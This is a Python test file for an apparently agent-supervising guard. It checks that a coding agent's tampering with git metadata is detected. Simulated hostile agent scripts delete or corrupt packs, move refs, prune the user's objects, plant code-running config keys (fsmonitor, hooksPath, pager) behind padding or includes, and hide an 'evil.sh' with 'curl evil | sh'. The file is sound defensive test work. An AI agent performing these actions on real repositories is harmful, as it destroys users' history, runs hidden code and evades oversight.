"""Class 3: tampering with git metadata the snapshot must see.

tests/detect/test_hardening.py holds the first set of these (the `.git` pointer, `commondir`,
`gitdir`, `core.worktree`, alternates, grafts, replace refs, a symref branch, loose objects
rewritten or deleted, another worktree's HEAD and config.worktree, in-progress state,
reflogs, a forged commit-graph). These are the rest of the list.
"""

from __future__ import annotations

from pathlib import Path

from adv import COMMIT, admin_of, all_paths, plain_git
from conftest import git, marker_script, run_exec, write_agent


def test_deleted_pack_is_reported_and_git_is_not_run(repo: Path, tmp_path: Path) -> None:
    git(repo, "gc", "-q")  # the person's history now lives in a pack
    pack = next((repo / ".git/objects/pack").glob("*.pack"))
    agent = write_agent(tmp_path, f"{COMMIT}\nrm -f {repo}/.git/objects/pack/*.pack")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert not pack.exists() and plain_git(repo, "log", "-1", "main").returncode != 0  # history gone
    assert res.code == 1
    assert "existing object file(s) were removed" in res.reasons("git-metadata")
    assert f"pack/{pack.name}" in all_paths(res, "git-metadata")
    assert res.status("clean-tree") == "skipped"


def test_a_byte_flipped_in_an_existing_pack_is_reported(repo: Path, tmp_path: Path) -> None:
    git(repo, "gc", "-q")
    pack = next((repo / ".git/objects/pack").glob("*.pack"))
    agent = write_agent(tmp_path, f"""{COMMIT}
chmod u+w {pack}
python3 -c "import sys; p=sys.argv[1]; d=bytearray(open(p,'rb').read()); d[20]^=0xff; open(p,'wb').write(d)" {pack}""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert plain_git(repo, "verify-pack", str(pack.with_suffix(".idx"))).returncode != 0
    assert res.code == 1
    assert "1 existing object file(s) were rewritten" in res.reasons("git-metadata")
    assert any("existing objects were rewritten" in e for e in res.verdict["errors"])


def test_shallow_file_that_hides_history_is_reported(repo: Path, tmp_path: Path) -> None:
    base = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\necho {base} > {repo}/.git/shallow")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert plain_git(repo, "rev-parse", "--is-shallow-repository").stdout.strip() == "true"
    assert res.code == 1
    assert "shallow was added" in res.reasons("git-metadata")
    assert any("shallow was changed" in e for e in res.verdict["errors"])


def test_packed_refs_rewritten_to_move_main(repo: Path, tmp_path: Path) -> None:
    git(repo, "pack-refs", "--all")
    before = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"""{COMMIT}
head=$(git rev-parse HEAD)
sed -i "s/^{before} refs\\/heads\\/main$/$head refs\\/heads\\/main/" {repo}/.git/packed-refs""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert git(repo, "rev-parse", "main") == res.verdict["head"] != before
    assert res.code == 1
    assert f"refs/heads/main moved {before[:12]} -> {res.verdict['head'][:12]}" in res.reasons("refs-untouched")


def test_gc_prune_of_the_persons_unreachable_objects_is_reported(repo: Path, tmp_path: Path) -> None:
    dangling = plain_git(repo, "hash-object", "-w", "--stdin", input="a draft of yours\n").stdout.strip()
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit gc -q --prune=now")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert plain_git(repo, "cat-file", "-e", dangling).returncode != 0  # the person's draft is gone
    assert res.code == 1
    assert "existing object file(s) were removed" in res.reasons("git-metadata")
    assert f"{dangling[:2]}/{dangling[2:]}" in all_paths(res, "git-metadata")


def test_sequencer_todo_with_an_exec_line_left_in_the_tasks_admin_dir(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    admin = admin_of(repo, "seq")
    agent = write_agent(tmp_path, f"""{COMMIT}
mkdir -p {admin}/sequencer; git rev-parse HEAD > {admin}/sequencer/head
printf 'exec echo ran >> {marker}\\n' > {admin}/sequencer/todo; : > {admin}/sequencer/opts""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "seq")
    assert (admin / "sequencer/todo").exists() and not marker.exists()
    assert res.code == 1
    assert "worktrees/seq/sequencer/todo added: an operation was left in progress" in res.reasons("git-metadata")


def test_a_code_running_key_behind_64_kib_of_padding_is_still_named(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    monitor = marker_script(tmp_path / "scripts", marker, "fsmonitor")
    agent = write_agent(tmp_path, f"""{COMMIT}
python3 -c "import sys; open(sys.argv[1], 'a').write('# ' + 'x' * 100000 + '\\n[core]\\n\\tfsmonitor = {monitor}\\n')" {repo}/.git/config""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert (repo / ".git/config").stat().st_size > 100_000
    # Unset after the run, however far down the file it was (the padding stays).
    assert plain_git(repo, "config", "core.fsmonitor").returncode == 1
    assert f"--add core.fsmonitor {monitor}" in Path(res.verdict["log_dir"], "quarantine", "config-keys.sh").read_text()
    assert res.code == 1
    assert f"DANGEROUS (runs code or steers git) core.fsmonitor: (unset) -> '{monitor}'" in res.reasons("git-metadata")
    assert not marker.exists()


def test_a_file_included_by_an_included_file_is_watched(repo: Path, tmp_path: Path) -> None:
    """The person's config includes A, and A includes B: the agent edits B."""
    inner, outer = tmp_path / "inner.cfg", tmp_path / "outer.cfg"
    inner.write_text("[user]\n\tname = Test Person\n")
    outer.write_text(f"[include]\n\tpath = {inner}\n")
    git(repo, "config", "include.path", str(outer))
    agent = write_agent(tmp_path, f"{COMMIT}\nprintf '[core]\\n\\thooksPath = /dev/null\\n' >> {inner}")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert plain_git(repo, "config", "core.hooksPath").stdout.strip() == "/dev/null"
    assert res.code == 1
    assert f"{inner} was modified: DANGEROUS (runs code or steers git) core.hookspath" in res.reasons("git-metadata")
    assert res.status("clean-tree") == "skipped"  # ccm-guard's own git would read it too


def test_config_replaced_by_a_symlink_is_reported(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, f"""{COMMIT}
cp {repo}/.git/config "$TMPDIR/config"; printf '[core]\\n\\tpager = evil\\n' >> "$TMPDIR/config"
rm {repo}/.git/config; ln -s "$TMPDIR/config" {repo}/.git/config""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert (repo / ".git/config").is_symlink()
    assert res.code == 1 and res.status("git-metadata") == "fail"
    assert "config was modified" in res.reasons("git-metadata")
    assert res.status("clean-tree") == "skipped"


def test_another_worktrees_gitdir_redirected_is_reported(repo: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    git(repo, "worktree", "add", "-q", "-b", "other", str(other))
    agent = write_agent(tmp_path, f"{COMMIT}\necho {tmp_path}/decoy/.git > {repo}/.git/worktrees/other/gitdir")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert res.code == 1
    assert "worktrees/other/gitdir was modified" in res.reasons("git-metadata")


def test_info_exclude_that_hides_a_leftover_is_reported(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' > evil.sh\nmkdir -p {repo}/.git/info; echo evil.sh >> {repo}/.git/info/exclude")
    res = run_exec(repo, agent, "--sandbox", "none")
    worktree = Path(res.verdict["worktree"])
    assert (worktree / "evil.sh").exists() and git(worktree, "status", "--porcelain") == ""  # hidden from git
    assert res.code == 1
    assert "info/exclude was" in res.reasons("git-metadata")


def test_task_worktree_head_detached_onto_main(repo: Path, tmp_path: Path) -> None:
    main = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\necho {main} > $(git rev-parse --git-dir)/HEAD")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "det")
    assert git(Path(res.verdict["worktree"]), "rev-parse", "HEAD") == main
    assert res.code == 1
    assert f"the task worktree's HEAD left ccm/det: {main}" in res.reasons("git-metadata")
